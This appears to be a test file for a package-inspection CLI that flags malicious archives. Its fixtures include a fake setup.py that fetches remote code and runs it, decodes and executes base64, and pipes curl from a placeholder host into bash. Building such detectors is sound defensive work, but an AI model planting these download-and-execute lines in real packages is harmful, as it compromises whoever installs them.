import assert from "node:assert/strict";
import { spawn } from "node:child_process";
import { once } from "node:events";
import { mkdirSync, readFileSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { PassThrough } from "node:stream";
import { text } from "node:stream/consumers";
import { test } from "node:test";
import { gzipSync } from "node:zlib";
import { SaxesParser } from "saxes";
import { npmTarball, sdist, wheel, zip } from "../../test/support/archives.ts";
import { fakeUpstream } from "../../test/support/fake-upstream.ts";
import { temporaryFolder } from "../../test/support/folders.ts";
import { digestHex, sha256Hex } from "../lib/digest.ts";
import { inspect } from "./inspect.ts";
import { runProgram } from "./program.ts";

const HARMLESS = npmTarball({ name: "left", version: "1.0.0", files: { "index.js": "module.exports = 1;\n" } });
const HARMFUL = sdist({
  name: "demo",
  version: "1.0",
  files: {
    "setup.py":
      "import os, base64, urllib.request\nfrom setuptools import setup\nexec(urllib.request.urlopen('http://example.invalid/x').read())\nexec(base64.b64decode('cHJpbnQoMSk='))\nos.system('curl -s http://example.invalid/x | bash')\nsetup(name='demo')\n",
  },
});

async function run(...args: string[]): Promise<{ out: string; err: string; code: number | undefined }> {
  const stdout = new PassThrough();
  const stderr = new PassThrough();
  const printed = Promise.all([text(stdout), text(stderr)]);
  let code: number | undefined;
  const context = {
    stdout,
    stderr,
    interrupted: new AbortController().signal,
    finish: (found: number) => (code = found),
  };
  await runProgram([{ name: "inspect", load: async () => inspect }], ["inspect", ...args], context);
  stdout.end();
  stderr.end();
  const [out, err] = await printed;
  return { out, err, code };
}

function lines(out: string): Record<string, unknown>[] {
  return out
    .trimEnd()
    .split("\n")
    .map((line) => JSON.parse(line));
}

function folderWith(files: Readonly<Record<string, Buffer | string>>): string {
  const folder = temporaryFolder();
  for (const [path, bytes] of Object.entries(files)) {
    mkdirSync(join(folder, path, ".."), { recursive: true });
    writeFileSync(join(folder, path), bytes);
  }
  return folder;
}

test("jsonl has one line with exactly these members per archive, which is known by its bytes", async () => {
  const folder = folderWith({
    "a.tgz": HARMLESS,
    "deep/b.bin": HARMFUL,
    "deep/wheel.tar.gz": wheel({ name: "demo", version: "1.0", files: { "demo.py": "x = 1\n" } }),
    "cut.whl": "no archive at all",
    "README.md": "text",
    "log.gz": gzipSync("a line of a log\n".repeat(100)),
    "picture.png": "\x89PNG",
  });
  const { out, code } = await run("--format", "jsonl", folder);
  const found = lines(out);
  const members = ["path", "sha256", "verdict", "score", "findings", "ms"];
  for (const line of found) assert.deepEqual(Object.keys(line), members);
  assert.deepEqual(
    found.map(({ path, verdict }) => `${String(path).slice(folder.length)} ${verdict}`),
    ["/a.tgz clean", "/cut.whl unknown", "/deep/b.bin malicious", "/deep/wheel.tar.gz clean"],
  );
  assert.equal(found[0]?.["sha256"], sha256Hex(HARMLESS));
  const findings = found[2]?.["findings"] as Record<string, unknown>[];
  assert.deepEqual(Object.keys(findings[0]!), ["detector", "severity", "path", "line", "says"]);
  assert.ok((found[2]?.["score"] as number) <= 1);
  assert.equal(code, 2, "malicious is worse than unknown");
});

test("the exit code says the worst: clean 0, could not inspect 3, nothing to inspect 3", async () => {
  const folder = folderWith({ "a.tgz": HARMLESS, "empty/note.txt": "" });
  assert.equal((await run(join(folder, "a.tgz"))).code, 0);
  const missing = await run(join(folder, "a.tgz"), join(folder, "missing.tgz"));
  assert.equal(missing.code, 3);
  assert.match(missing.out, /there is no such file/);
  const nothing = await run(join(folder, "empty"));
  assert.equal(nothing.code, 3);
  assert.match(nothing.err, /there is no archive in/);
});

test("usage errors end with 64 and say what is possible", async () => {
  for (const args of [[], ["--format", "csv", "x"], ["--jobs", "0", "x"], ["--unknown", "x"]]) {
    const { code, err } = await run(...args);
    assert.equal(code, 64, args.join(" "));
    assert.match(err, /^error: /);
  }
});

test("text shows what was found; --explain what it contributed", async () => {
  const folder = folderWith({ "bad.tgz": HARMFUL });
  const { out } = await run(join(folder, "bad.tgz"), "--explain");
  assert.match(out, /^malicious {2}/);
  assert.match(out, /setup\.py:\d+ .*\(downloads-and-runs\)/);
  assert.match(out, / 5 \| os\.system\('curl -s http:\/\/example\.invalid\/x \| bash'\)\n/);
  assert.match(out, /account, in log-odds:\n +-4\.00 {2}prior.*\n +\+\d+\.\d+ {2}[a-z-]+ {2}demo-1\.0\/setup\.py:\d\n/);
  assert.match(out, /sum, a probability of 1\.000: malicious\n +suspicious from 0\.5 \(\+0\.00\), malicious from 0\.9/);
  assert.match(out, /1 archive: 1 malicious/);
});

test("--explain escapes what a terminal would obey in the source it shows", async () => {
  const folder = folderWith({
    "bad.tgz": sdist({
      name: "demo",
      version: "1.0",
      files: { "setup.py": "import os; os.system('curl -s http://example.invalid/x | bash') # \u001b[2J \u202e\n" },
    }),
  });
  const { out } = await run(join(folder, "bad.tgz"), "--explain");
  assert.match(out, /# \\u\{1b\}\[2J \\u\{202e\}\n/);
  assert.ok(!out.includes("\u001b[2J") && !out.includes("\u202e"));
});

test("--explain adds the account to JSON, with the source of a decoded layer, and nothing without it", async () => {
  const inner = Buffer.from("import os\nos.system('curl -s http://example.invalid/x | bash')\n").toString("base64");
  const setup = `import base64\nexec(base64.b64decode('${inner}'))\n`;
  const folder = folderWith({ "bad.tgz": sdist({ name: "demo", version: "1.0", files: { "setup.py": setup } }) });
  const [line] = lines((await run(folder, "--format", "jsonl", "--explain")).out) as [Record<string, unknown>];
  const account = line["account"] as { prior: number; sum: number; findings: Record<string, unknown>[] };
  const points = account.findings.reduce((sum, one) => sum + (one["points"] as number), account.prior);
  assert.ok(Math.abs(points - account.sum) < 0.001);
  const inside = account.findings.find(({ detector }) => detector === "downloads-and-runs");
  assert.deepEqual((inside as { source: unknown[] }).source.at(-1), {
    line: 2,
    layer: 1,
    text: "os.system('curl -s http://example.invalid/x | bash')",
  });
  assert.equal(inside?.["phase"], "install");
});

test("json, SARIF and JUnit are whole documents", async () => {
  const folder = folderWith({ "bad & <odd>\u0001.tgz": HARMFUL, "cut.whl": "x", "good.tgz": HARMLESS });
  const json = JSON.parse((await run(folder, "--format", "json")).out);
  assert.deepEqual(json.counts, { clean: 1, suspicious: 0, malicious: 1, unknown: 1 });
  const sarif = JSON.parse((await run(folder, "--format", "sarif")).out);
  assert.equal(sarif.version, "2.1.0");
  const { results, tool } = sarif.runs[0];
  for (const { ruleId, ruleIndex } of results) assert.equal(tool.driver.rules[ruleIndex].id, ruleId);
  assert.ok(results.some(({ ruleId }: { ruleId: string }) => ruleId === "not-inspected"));
  const { out } = await run(folder, "--format", "junit");
  const elements: string[] = [];
  const parser = new SaxesParser();
  parser.on("opentag", ({ name }) => elements.push(name));
  parser.write(out).close();
  assert.deepEqual(
    elements.join(" "),
    "testsuites testsuite properties testcase failure testcase error testcase system-out system-err",
  );
  assert.match(out, /tests="3" failures="1" errors="1"/);
});

test("a link to a file counts as that file, a link to a folder is not followed", {
  skip: process.platform === "win32",
}, async () => {
  const folder = folderWith({ "real/a.tgz": HARMLESS, "look/here.txt": "" });
  symlinkSync(join(folder, "real"), join(folder, "look", "again"));
  symlinkSync(join(folder, "real", "a.tgz"), join(folder, "look", "a.tgz"));
  const { out } = await run("--format", "jsonl", join(folder, "look"));
  assert.deepEqual(
    lines(out).map(({ path, verdict }) => [path, verdict]),
    [[join(folder, "look", "a.tgz"), "clean"]],
  );
});

test("a zip with something before it is an archive too, and not a clean one", async () => {
  const folder = folderWith({ "picture.png": Buffer.concat([Buffer.from("\x89PNG...."), zip({ "a.py": "x = 1\n" })]) });
  const { out, code } = await run("--format", "jsonl", folder);
  assert.equal(lines(out)[0]?.["verdict"], "unknown");
  assert.equal(code, 3);
});

test("package URLs and lock files are fetched from the registry that was given, and checked against their digests", async (t) => {
  const upstream = await fakeUpstream(t);
  const integrity = `sha512-${Buffer.from(digestHex("sha512", HARMLESS), "hex").toString("base64")}`;
  const dist = { tarball: `${upstream.url}/left/-/left-1.0.0.tgz`, integrity };
  const versions = { "1.0.0": { name: "left", version: "1.0.0", dist } };
  upstream.say("/left", { body: JSON.stringify({ name: "left", "dist-tags": { latest: "1.0.0" }, versions }) });
  upstream.say("/left/-/left-1.0.0.tgz", { body: HARMLESS });
  const entry = { version: "1.0.0", resolved: dist.tarball, integrity };
  const folder = folderWith({
    "package-lock.json": JSON.stringify(
      {
        lockfileVersion: 3,
        packages: {
          "node_modules/left": entry,
          "node_modules/a/node_modules/left": entry,
          "node_modules/gone": { version: "1.0.0" },
          "node_modules/g": { version: "1.0.0", resolved: "git+ssh://git@h.example/g.git#0a" },
        },
      },
      null,
      1,
    ),
  });
  const registries = ["--upstream-npm", `${upstream.url}/`, "--upstream-pypi", "none", "--upstream-nuget", "none"];
  const single = await run(
    "--format",
    "jsonl",
    ...registries,
    "pkg:npm/left@1.0.0",
    "pkg:npm/left",
    "pkg:npm/left@9.9.9",
  );
  assert.deepEqual(
    lines(single.out).map(({ path, verdict, sha256 }) => [path, verdict, sha256]),
    [
      ["pkg:npm/left@1.0.0", "clean", sha256Hex(HARMLESS)],
      ["pkg:npm/left", "clean", sha256Hex(HARMLESS)],
      ["pkg:npm/left@9.9.9", "unknown", null],
    ],
  );
  const toml = `[upstream]\nnpm = "${upstream.url}/"\npypi = "none"\nnuget = "none"\n`;
  const ofGate = await run(
    "--format",
    "jsonl",
    "--data",
    folderWith({ "portcullis.toml": toml }),
    "pkg:npm/left@1.0.0",
  );
  assert.equal(lines(ofGate.out)[0]?.verdict, "clean", "the registries of the gate with that data folder are asked");
  const lock = join(folder, "package-lock.json");
  const locked = await run("--format", "jsonl", ...registries, lock);
  assert.deepEqual(
    lines(locked.out).map(({ path, verdict }) => [path, verdict]),
    [
      [`${lock}!/pkg:npm/left@1.0.0`, "clean"],
      [`${lock}!/pkg:npm/gone@1.0.0`, "unknown"],
      [`${lock}!/g`, "unknown"],
    ],
  );
  upstream.say("/left/-/left-1.0.0.tgz", { body: HARMFUL });
  const changed = await run("--format", "jsonl", ...registries, "pkg:npm/left@1.0.0");
  assert.match(changed.out, /"unknown".*its bytes do not have the digest/);
  const sarif = JSON.parse((await run("--format", "sarif", ...registries, lock)).out);
  assert.equal(sarif.runs[0].results.at(-1).locations[0].physicalLocation.region.startLine, 17);
});

test("a reader that leaves early and a person who interrupts get no stack traces", {
  skip: process.platform === "win32",
}, async () => {
  const folder = folderWith(Object.fromEntries(Array.from({ length: 300 }, (_, index) => [`${index}.tgz`, HARMLESS])));
  const main = join(import.meta.dirname, "..", "main.ts");
  for (const leave of ["pipe", "signal"] as const) {
    const child = spawn(process.execPath, [main, "inspect", "--format", "jsonl", folder], {
      stdio: ["ignore", "pipe", "pipe"],
    });
    const complaints = text(child.stderr);
    await once(child.stdout, "data");
    if (leave === "pipe") child.stdout.destroy();
    else {
      child.stdout.resume();
      child.kill("SIGINT");
    }
    const [code] = await once(child, "exit");
    assert.equal(await complaints, "");
    if (leave === "signal") assert.equal(code, 130);
  }
});

const OLD = npmTarball({ name: "left", version: "1.0.0", files: { "index.js": "module.exports = 1;\n" } });
const NEW = npmTarball({
  name: "left",
  version: "1.0.1",
  manifest: { scripts: { postinstall: "node setup.js" } },
  files: { "index.js": "module.exports = 2;\n", "setup.js": "console.log('built');\n" },
});

test("--before says what changed, which alone changes no verdict; a release before that cannot be had neither", async () => {
  const folder = folderWith({ "old.tgz": OLD, "new.tgz": NEW });
  const args = ["--format", "jsonl", join(folder, "new.tgz")];
  const [alone] = lines((await run(...args)).out);
  const [compared] = lines((await run("--before", join(folder, "old.tgz"), ...args)).out);
  const { findings } = compared as { findings: { detector: string; path: string }[] };
  const added = findings.map(({ detector, path }) => [detector, path]);
  assert.deepEqual(added, [
    ["adds-install-code", "setup.js"],
    ["adds-install-hook", ""],
  ]);
  assert.equal(compared?.["verdict"], "clean");
  const { out, err, code } = await run("--before", join(folder, "gone.tgz"), ...args);
  assert.deepEqual([lines(out)[0]?.["findings"], code], [alone?.["findings"], 0]);
  assert.match(err, /gone\.tgz cannot be compared with: there is no such file/);
});

test("html is one page for reviewers, written to a file when asked, with the diff against the release before", async () => {
  const folder = folderWith({ "old.tgz": OLD, "new.tgz": NEW, "bad.tgz": HARMFUL });
  const output = join(folder, "review.html");
  const targets = [join(folder, "new.tgz"), join(folder, "bad.tgz")];
  const { out, code } = await run(
    "--format",
    "html",
    "--output",
    output,
    "--before",
    join(folder, "old.tgz"),
    ...targets,
  );
  assert.deepEqual([out, code], ["", 2]);
  const page = readFileSync(output, "utf8");
  assert.match(page, /^<!doctype html>[\s\S]*<\/html>\n$/);
  assert.match(page, /<nav[\s\S]*malicious[\s\S]*bad\.tgz[\s\S]*clean[\s\S]*new\.tgz[\s\S]*<\/nav>/);
  assert.match(page, /class="l removed"><span>− 1<\/span><code>module\.exports = 1;/);
  const refused = await run("--format", "html", "--output", join(folder, "no", "such.html"), targets[0]!);
  assert.equal(refused.code, 64);
  assert.match(refused.err, /such\.html/);
});
